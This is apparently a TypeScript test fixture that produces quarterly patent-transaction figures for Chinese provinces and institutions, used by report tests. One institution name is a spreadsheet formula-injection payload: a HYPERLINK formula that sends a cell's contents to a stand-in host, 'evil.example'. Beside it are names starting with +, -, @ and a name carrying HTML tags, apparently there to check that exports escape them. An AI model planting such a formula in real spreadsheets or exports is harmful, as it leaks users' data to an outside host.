/** Computed figures of one quarter for the report tests (the shape schemas/metrics.ts defines). */
import {
  type FigureRow,
  type Figures,
  type MetricId,
  metricIds,
  type Quarter,
  type QuarterFigures,
  quarterBounds,
} from '../../schemas/metrics.ts';

export function values(
  overrides: Partial<Record<MetricId, number | null>> = {},
): Record<MetricId, number | null> {
  return Object.fromEntries(metricIds.map((id) => [id, overrides[id] ?? 0])) as Record<
    MetricId,
    number | null
  >;
}

export function figures(overrides: Partial<Record<MetricId, number | null>> = {}): Figures {
  return Object.fromEntries(
    metricIds.map((id) => {
      const value = overrides[id] ?? 0;
      return [
        id,
        {
          value,
          previousQuarter: 0,
          previousYear: 0,
          deltaQoQ: value,
          deltaYoY: value === null ? null : value - 1,
        },
      ];
    }),
  ) as Figures;
}

export const hyperlinkName = '=HYPERLINK("http://evil.example/steal?x="&A1,"Click")';

export function institutionRows(provinceCode = '110000'): FigureRow[] {
  const names = [
    '清华大学',
    hyperlinkName,
    '+Plus 研究院',
    '-Minus 大学',
    '@At 科学院',
    '<b>北京</b>理工',
    '普通大学',
  ];
  return names.map((name, i) => ({
    code: `91${provinceCode}${String(i).padStart(10, '0')}`.slice(0, 18),
    name,
    provinceCode,
    values: values({
      deals: 7 - i,
      licenseFilings: i,
      implementationRate: (7 - i) / 10,
      inventoryCoverage: 0.5,
    }),
  }));
}

export function nationalFigures(quarter: Quarter = '2025Q4', hasData = true): QuarterFigures {
  const bounds = quarterBounds(quarter);
  return {
    quarter,
    scope: { level: 'national' },
    period: { firstDay: bounds.firstDay, lastDay: bounds.lastDay },
    complete: true,
    hasData,
    figures: hasData
      ? figures({
          deals: 12,
          dealValueWan: 350.5,
          incomeReceivedWan: 120.4,
          implementationRate: 0.42,
          licenseFilings: 5,
        })
      : figures(),
    provinces: hasData
      ? [
          { code: '110000', values: values({ deals: 7, licenseFilings: 3, assignmentRegistrations: 1 }) },
          { code: '310000', values: values({ deals: 5, licenseFilings: 2 }) },
        ]
      : [],
    institutions: hasData ? institutionRows() : [],
    deadlineCompliance: [
      {
        id: 'others-30',
        category: 'other',
        measure: 'inventoryCoverage',
        clause: '二(一)3 进度安排：2024年6月底前……其他高校和科研机构完成30%以上存量专利盘点入库',
        at: '2024-06-30',
        basis: 'snapshot',
        date: '2024-06-30',
        target: 0.3,
        description: '30% inventoried by 2024-06-30',
        passed: true,
        coverage: hasData ? 0.5 : null,
        met: hasData,
        institutionsMeeting: hasData ? 7 : 0,
        institutionsBehind: [],
        institutionsBehindCount: 0,
      },
      {
        id: 'all-complete',
        category: 'all',
        measure: 'inventoryCoverage',
        clause: '二(一)3 进度安排：2024年底前，全国高校和科研机构完成全部存量专利盘点入库',
        at: '2024-12-31',
        basis: 'computed',
        note: 'no snapshot of 2024-12-31: computed from the counters',
        date: '2024-12-31',
        target: 1,
        description: 'all stock inventoried by 2024-12-31',
        passed: true,
        coverage: hasData ? 0.5 : null,
        met: false,
        institutionsMeeting: 0,
        institutionsBehind: [],
        institutionsBehindCount: hasData ? 7 : 0,
      },
    ],
    anomalies: hasData
      ? [
          {
            code: 'DEALS_DROPPED',
            scope: '310000',
            metric: 'deals',
            message: '上海市交易数环比下降 50% / deals dropped by half',
          },
        ]
      : [{ code: 'NO_DATA', scope: 'national', message: '无数据 / no data' }],
    computedAt: '2026-01-01T00:00:00.000Z',
  };
}

export function provinceFigures(provinceCode: string, quarter: Quarter = '2025Q4'): QuarterFigures {
  const national = nationalFigures(quarter);
  return {
    ...national,
    scope: { level: 'province', provinceCode },
    provinces: undefined,
    institutions: institutionRows(provinceCode),
  };
}
